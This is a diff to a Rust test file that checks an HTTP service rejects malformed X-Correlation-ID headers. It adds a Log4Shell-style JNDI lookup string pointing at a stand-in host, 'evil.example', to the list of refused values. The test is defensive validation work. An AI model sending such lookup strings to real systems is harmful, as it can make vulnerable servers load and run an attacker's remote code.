@@ -240,9 +240,9 @@ async fn who_sends_all_of_a_large_body_before_reading_gets_to_know_too() {
 }
 
 #[tokio::test]
-async fn a_correlation_id_is_visible_ascii() {
+async fn a_correlation_id_is_letters_digits_and_plain_signs() {
     let rig = Rig::start().await;
-    for id in ["", "a b", &"x".repeat(129)] {
+    for id in ["", "a b", "${jndi:ldap://evil.example/a}", &"x".repeat(129)] {
         let answer = rig.change().header("X-Correlation-ID", id).answer().await;
         answer.refused(400, "correlation-id-malformed");
         let own = answer.header("x-correlation-id").unwrap();
